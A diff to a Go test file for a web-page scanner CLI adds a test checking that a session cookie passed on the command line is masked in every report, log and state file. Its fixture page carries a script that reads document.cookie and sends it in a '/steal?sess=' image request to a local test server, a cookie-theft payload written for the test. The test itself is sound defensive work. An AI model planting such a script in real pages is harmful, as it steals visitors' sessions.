@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/xml"
 	"errors"
+	"github.com/beiancheck/beiancheck/scanner"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -250,5 +251,54 @@ func TestSecretsNotEchoed(t *testing.T) {
 				t.Errorf("the secret is printed:\n%s%s", stdout, stderr)
 			}
 		})
+	}
+}
+
+// TestEchoedCredentialsScrubbed: a page script reads the --cookie (not
+// HttpOnly) and echoes it into the number's id, the footer's text, a
+// request URL to an inward port (refused, and listed) and a link; the
+// value appears in no report, line, journal or message, while the page was
+// measured as it is.
+func TestEchoedCredentialsScrubbed(t *testing.T) {
+	needBrowser(t)
+	const secret = "s3cr3tCOOKIE"
+	inward := httptest.NewServer(http.NotFoundHandler()) // another port: refused
+	defer inward.Close()
+	page := strings.Replace(compliantPage, "</footer>", `<p id="echo"></p></footer>
+<script>
+var v = document.cookie.split('=')[1] || 'none';
+document.querySelector('footer a').id = 'sess_' + v;
+document.querySelector('footer a').className = 'c-' + v;
+document.getElementById('echo').textContent = '会话 ' + v;
+new Image().src = '`+inward.URL+`/steal?sess=' + encodeURIComponent(document.cookie);
+var a = document.createElement('a'); a.href = '/next?s=' + v; a.textContent = 'next'; document.body.appendChild(a);
+</script>`, 1)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		io.WriteString(w, page)
+	}))
+	defer srv.Close()
+	dir := t.TempDir()
+	out := func(name string) string { return filepath.Join(dir, name) }
+	code, stdout, stderr := runCLIAsMain(t, nil,
+		"scan", "--viewport", "desktop", "--annotations", "github", "--summary", "all",
+		"--cookie", "sess="+secret+"@127.0.0.1",
+		"--json", out("r.json"), "--markdown", out("r.md"), "--junit", out("r.xml"), "--sarif", out("r.sarif"),
+		"--html", out("r.html"), "--jsonl", out("r.jsonl"), "--state", out("state"), srv.URL+"/")
+	if code != exitOK {
+		t.Errorf("exit %d, want %d (the page is compliant)\n%s", code, exitOK, stderr)
+	}
+	texts := map[string]string{"stdout": stdout, "stderr": stderr}
+	for _, name := range []string{"r.json", "r.md", "r.xml", "r.sarif", "r.html", "r.jsonl", "state/" + scanner.StateFile} {
+		texts[name] = readText(t, out(name))
+	}
+	for name, text := range texts {
+		if strings.Contains(text, secret) {
+			t.Errorf("%s holds the cookie:\n%s", name, text)
+		}
+	}
+	// The page did echo it: the report shows where, hidden.
+	if !strings.Contains(texts["r.json"], "#sess_***") || !strings.Contains(texts["r.json"], "/steal?sess=sess%3D***") {
+		t.Errorf("the JSON report does not show the echoes hidden (the page did not run?):\n%s", texts["r.json"])
 	}
 }
